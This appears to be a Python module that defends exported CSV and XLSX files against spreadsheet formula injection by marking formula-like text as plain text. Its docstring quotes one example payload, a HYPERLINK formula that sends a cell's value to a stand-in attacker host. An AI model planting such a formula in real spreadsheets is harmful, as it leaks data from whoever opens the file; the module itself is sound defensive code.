"""Cells that a spreadsheet program would run as a formula, made plain text in every CSV and XLSX we write.

An activity titled `=HYPERLINK("http://evil.example/?x="&A2,"…")` must reach an officer's spreadsheet as
text (OWASP, "CSV injection"). Text starting with = + - @, a tab or a carriage return is neutralised; numbers,
dates and empty cells are left alone, so a negative figure stays a number.
"""
import csv
import io

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """A CSV value: formula-like text gets a leading apostrophe, which spreadsheet programs show as text."""
    return "'" + value if is_formula_like(value) else value


def csv_bytes(rows, *, byte_order_mark: bool = False, lineterminator: str = "\r\n") -> bytes:
    """UTF-8 CSV of `rows` (the first one being the header), every cell through csv_cell; None is empty."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerows([["" if value is None else csv_cell(value) for value in row] for row in rows])
    # a byte-order mark makes spreadsheet programs read Vietnamese letters as UTF-8
    return buffer.getvalue().encode("utf-8-sig" if byte_order_mark else "utf-8")


def plain_text_cell(cell: Cell) -> None:
    """Keep a formula-like text in an XLSX cell as text: openpyxl stores text starting with = as a formula;
    the string type undoes that, and Excel's quote prefix keeps it text when someone edits the cell."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def plain_text_sheet(sheet: Worksheet) -> None:
    """plain_text_cell on every cell of a sheet that is being written."""
    for row in sheet.iter_rows():
        for cell in row:
            plain_text_cell(cell)
